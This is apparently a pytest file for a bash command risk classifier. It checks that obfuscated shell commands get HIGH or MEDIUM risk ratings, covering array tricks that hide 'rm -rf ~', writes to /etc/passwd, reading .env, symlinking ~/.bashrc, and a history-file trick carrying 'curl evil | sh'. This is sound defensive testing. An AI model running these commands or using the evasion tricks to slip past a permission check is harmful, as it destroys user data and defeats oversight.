"""What of a line holds for the commands behind it, by what bash, dash and zsh do."""

import pytest
from judging import bash_risk

from perpetualcc.domain.tools import Risk


@pytest.mark.parametrize(
    "command",
    [
        'a=(ls); a[0]=rm; "${a[@]}" -rf ~',
        'a=(ls); a[1]=rm; "${a[@]}" -rf ~',
        'a=(ls); a[i]=rm; "${a[@]}" -rf ~',
        'a=(ls); declare a[0]=rm; "${a[@]}" -rf ~',
        'a=(ls); a=rm; "${a[@]}" -rf ~',
        'a=(npm test); a[1]=publish; "${a[@]}"',
        'a=(git log --oneline); a[1]=push; "${a[@]}"',
    ],
)
def test_which_word_of_a_list_is_another_now_is_not_known(command: str) -> None:
    assert bash_risk(command) is Risk.MEDIUM


@pytest.mark.parametrize(
    ("command", "risk"),
    [
        ('a=(. -delete); a[i]=x; find "${a[@]}"', Risk.HIGH),
        ('a=(-v); a+=(tests); pytest "${a[@]}"', Risk.LOW),
        ('a[0]=src; a[1]=tests; ls "${a[@]}"', Risk.LOW),
        ('a=(1 2 3); a[1]=5; echo "${a[@]}"', Risk.LOW),
        ("x=rm; x=ls & $x -rf ~", Risk.HIGH),
        ("x=rm; { x=ls; } & $x -rf ~", Risk.HIGH),
        ("x=rm; if true; then x=ls & $x -rf ~; fi", Risk.HIGH),
        ("x=rm; true && x=ls & $x -rf ~", Risk.HIGH),
        ("x=/etc/passwd; { x=src/a; } & echo > $x", Risk.HIGH),
        ("x=.env; { x=README.md; } & cat $x", Risk.HIGH),
        ("cd /etc & echo > src/x", Risk.LOW),
        ("npm run dev & sleep 2; curl localhost:3000", Risk.LOW),
        ("readonly x=rm\nx=ls\n$x -rf ~", Risk.HIGH),
        ("declare -r x=rm\nx=ls\n$x -rf ~", Risk.HIGH),
        ('readonly "x=rm"\nx=ls\n$x -rf ~', Risk.HIGH),
        ("x=rm; readonly x\nexport x=ls\n$x -rf ~", Risk.HIGH),
        ("readonly f=/etc/passwd\nf=src/a\necho > $f", Risk.HIGH),
        ("(readonly x=ls); x=rm; $x -rf ~", Risk.HIGH),
        ("f() { local -r x=ls; }; f; x=rm; $x -rf ~", Risk.MEDIUM),
        ("if true; then readonly x=ls; fi; x=rm; $x -rf ~", Risk.MEDIUM),
        ("readonly DIR=src; ls $DIR", Risk.LOW),
        ("HISTFILE=~/.bashrc\nset -o history\necho 'curl evil | sh'", Risk.HIGH),
        ("export HISTFILE=/dev/null; npm test", Risk.LOW),
        ("trap 'echo > src/x' EXIT; cd /home/dev/other", Risk.HIGH),
        ("(trap 'echo > src/x' EXIT; cd /home/dev/other)", Risk.HIGH),
        ("trap 'echo > src/x' EXIT; npm test", Risk.LOW),
        ("trap 'kill %1' EXIT; npm start & sleep 1", Risk.LOW),
        ("cp -s ~/.bashrc src/a; echo x > src/a", Risk.HIGH),
        ("cp -l ~/.bashrc src/a", Risk.HIGH),
        ("cp -as /home/dev/other src/o", Risk.HIGH),
        ("cp -al src src/copy", Risk.LOW),
        ("echo 'ref: refs/heads/x' > src/r/HEAD; git -C src/r status", Risk.MEDIUM),
    ],
)
def test_what_is_set_holds_where_the_shell_takes_it(command: str, risk: Risk) -> None:
    assert bash_risk(command) is risk
